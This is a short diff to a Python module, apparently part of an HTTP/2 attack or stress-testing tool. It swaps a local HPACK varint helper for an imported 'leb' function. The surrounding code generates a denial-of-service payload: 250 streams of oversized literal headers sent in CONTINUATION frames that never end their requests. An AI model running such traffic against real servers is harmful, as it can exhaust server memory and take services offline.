@@ -11,6 +11,7 @@ from collections.abc import Callable, Iterator
 from typing import Final
 
 from attacks import Attack, Target
+from bomb import leb
 from node import connect
 
 PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -109,7 +110,7 @@ def _fat_heads() -> Iterator[bytes]:
     """250 streams of 54 kB literal headers each, none of which ends its request."""
     value = b"v" * 16_000
     # Literal header field without indexing; the lengths are HPACK integers of more than seven bits.
-    length = bytes([0x7F]) + _varint(len(value) - 127)
+    length = bytes([0x7F]) + leb(len(value) - 127)
     fields = b"\x82\x86\x84\x41\x01a" + b"".join(b"\x00\x02x" + bytes([97 + n]) + length + value for n in range(3))
     for stream in range(1, 501, 2):
         pieces = [fields[at : at + 16_000] for at in range(0, len(fields), 16_000)]
@@ -117,14 +118,6 @@ def _fat_heads() -> Iterator[bytes]:
         for number, piece in enumerate(pieces[1:], 2):
             said += frame(CONTINUATION, 4 if number == len(pieces) else 0, stream, piece)
         yield said
-
-
-def _varint(number: int) -> bytes:
-    out = bytearray()
-    while number >= 128:
-        out.append(number % 128 + 128)
-        number //= 128
-    return bytes([*out, number])
 
 
 def _small_frames() -> Iterator[bytes]:
